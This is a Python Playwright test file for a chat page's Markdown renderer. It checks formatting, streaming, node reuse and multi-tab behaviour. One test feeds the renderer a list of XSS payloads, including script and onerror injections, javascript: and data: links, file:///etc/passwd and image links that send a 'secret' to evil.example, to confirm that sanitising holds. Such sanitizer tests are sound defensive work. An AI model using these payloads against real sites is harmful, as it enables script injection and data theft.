"""What the chat page makes of Markdown, in a real browser: it is safe, complete, and grows without being made anew."""

from __future__ import annotations

from collections.abc import Iterator

import pytest

from rxllm.testing import ScriptedModel
from rxllm.web import Guard, Service

from .running import running

DOCUMENT = r"""# Title with `code`

Some **bold**, *slanted*, ~~gone~~ text
on two lines.HARD
After a hard break, \*escaped\* and \(E = m_c^2\) and $5 or $6.

\[ \frac{a_1}{b_2} \]

- [x] done
- [ ] open
- plain
  1. inner
  2. more

     deep
- last

1. one
1. two

| left | mid | right |
|:-----|:---:|------:|
| `x|y` | a \| b | 3 |
| 4 |

> quoted
> - in it

```python
def f():
    return "<b>"
```

***
[a link](https://a.example/b "t") ![image](https://a.example/c.png) <https://b.example/> https://c.example/d.""".replace(
    "HARD", "  "
)

SHAPE = {
    "h1 > code": "code",
    "p > br": "",
    ".math": r"\(E = m_c^2\)",
    "li.task > input:checked": "",
    "li ol li:nth-child(2)": "more\n\ndeep",
    "td:nth-child(1) > code": "x|y",
    "td.center": "a | b",
    "td.right": "3",
    "blockquote li": "in it",
    "pre > code": 'def f():\n    return "<b>"',
}

ATTACKS = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>1</script>'>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript&#58;alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](data:text/html,<script>1</script>)",
    "[x](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/?q=secret)",
    "[![x](https://evil.example/a.png)](javascript:alert(1))",
    "[x](file:///etc/passwd)",
    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>1</script> | [x](javascript:1) |",
    "- [ ] <img src=x onerror=alert(1)>",
    "\\(<img src=x onerror=alert(1)>\\)",
    "$$<script>alert(1)</script>$$",
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "<a href='javascript:alert(1)'>x</a>",
    "<form action=javascript:alert(1)><input type=submit>",
    "<object data=x>",
    "<embed src=x>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=0>",
    "<style>*{}</style>",
    "<link rel=stylesheet href=x>",
    "<math><mi xlink:href=javascript:1>",
    '[x](https://a.example"onclick=alert(1))',
    '["><img src=x onerror=alert(1)>](https://a.example)',
    "# <img src=x onerror=alert(1)>",
    "> <img src=x onerror=alert(1)>",
]

RENDER = """async (texts) => {
  const { render } = await import("/markdown.js");
  const target = document.createElement("div");
  for (const text of texts) render(target, text);
  document.body.append(target);
  return target.innerHTML;
}"""


@pytest.fixture(scope="module")
def page(browser) -> Iterator[object]:
    with running(Service({"m": ScriptedModel(default="Hello there")})) as url:
        context = browser.new_context()
        made = context.new_page()
        made.goto(url)
        yield made
        context.close()


def test_what_models_write(page) -> None:
    """Blocks, spans, tables, tasks, formulas."""
    page.evaluate(RENDER, [DOCUMENT])
    found = {place: page.locator(f"body > div:last-child {place}").first.inner_text().strip() for place in SHAPE}
    assert SHAPE == found


def test_text_that_grows_looks_as_if_it_had_come_at_once(page) -> None:
    """Character by character, and in pieces."""
    at_once = page.evaluate(RENDER, [DOCUMENT])
    for step in (1, 7, 40):
        texts = [DOCUMENT[:end] for end in range(step, len(DOCUMENT), step)] + [DOCUMENT]
        assert at_once == page.evaluate(RENDER, texts)


@pytest.mark.parametrize("piece", ["word **bold** `code`\n\n", "- item\n", "code\n", "| a | b |\n", "word "])
def test_of_a_long_text_only_the_end_is_made_anew(page, piece: str) -> None:
    """What is above stays the same nodes."""
    begin = {"code\n": "```\n", "| a | b |\n": "| a | b |\n|---|---|\n"}.get(piece, "")
    kept, all_nodes = page.evaluate(
        """async ([text, more]) => {
          const { render } = await import("/markdown.js");
          const target = document.createElement("div");
          render(target, text);
          const before = [...target.querySelectorAll("*")];
          render(target, text + more);
          return [before.filter((node) => target.contains(node)).length, before.length];
        }""",
        [begin + piece * (100_000 // len(piece)), piece],
    )
    assert kept > 0.9 * all_nodes


@pytest.mark.parametrize("attack", ATTACKS)
def test_markup_is_text(page, attack: str) -> None:
    """No element but those of the page, no address but those of the web; also while it comes."""
    texts = [attack[:end] for end in range(1, len(attack) + 1)]
    found = page.evaluate(
        """async (texts) => {
          const { render } = await import("/markdown.js");
          const target = document.createElement("div");
          const found = new Set();
          for (const text of texts) {
            render(target, text);
            for (const node of target.querySelectorAll("*")) {
              found.add(node.tagName);
              for (const { name } of node.attributes) found.add(name);
              if (node.href) found.add(node.protocol);
            }
          }
          return [...found];
        }""",
        texts,
    )
    elements = {
        "P",
        "A",
        "CODE",
        "PRE",
        "DIV",
        "SPAN",
        "BUTTON",
        "TABLE",
        "THEAD",
        "TBODY",
        "TR",
        "TH",
        "TD",
        "UL",
        "LI",
    }
    elements |= {"INPUT", "H1", "BLOCKQUOTE", "STRONG", "EM", "S", "BR", "HR", "OL"}
    attributes = {"class", "href", "rel", "target", "type", "aria-label", "disabled"}
    assert set(found) <= elements | attributes | {"http:", "https:", "mailto:"}


def test_over_plain_http_from_another_host(browser) -> None:
    """Where the browser withholds `crypto.randomUUID` and the clipboard."""
    from playwright.sync_api import expect

    service = Service({"m": ScriptedModel(default="Hello there")}, guard=Guard(hosts=frozenset({"chat.example"})))
    with running(service) as url:
        port = url.rpartition(":")[2]
        arguments = ["--no-sandbox", "--disable-gpu", "--host-resolver-rules=MAP chat.example 127.0.0.1"]
        other = browser.browser_type.launch(executable_path="/usr/bin/chromium", args=arguments)
        made = other.new_page()
        errors: list[object] = []
        made.on("pageerror", lambda error: errors.append(error))
        made.goto(f"http://chat.example:{port}/")
        assert made.evaluate("() => !isSecureContext && crypto.randomUUID === undefined")
        made.fill("#prompt", "Hi")
        made.keyboard.press("Enter")
        expect(made.locator(".assistant .answer")).to_have_text("Hello there")
        made.get_by_role("button", name="Copy the answer").click()
        other.close()
    assert [] == errors


def test_two_tabs_keep_each_others_conversations(browser) -> None:
    """And show them."""
    from playwright.sync_api import expect

    with running(Service({"m": ScriptedModel(default="Hello there")})) as url:
        context = browser.new_context()
        first, second = context.new_page(), context.new_page()
        for tab in (first, second):
            tab.goto(url)
        for tab, said in ((first, "first tab"), (second, "second tab")):
            tab.fill("#prompt", said)
            tab.keyboard.press("Enter")
            expect(tab.locator(".assistant .answer")).to_have_text("Hello there")
        for tab in (first, second):
            expect(tab.locator("#conversations .open")).to_have_count(2)
        first.reload()
        expect(first.locator("#conversations .open")).to_have_count(2)
        first.get_by_role("button", name="Delete second tab").click()
        expect(second.locator("#conversations .open", has_text="first tab")).to_have_count(1)
        expect(second.locator("#conversations .open", has_text="second tab")).to_have_count(0)
        context.close()
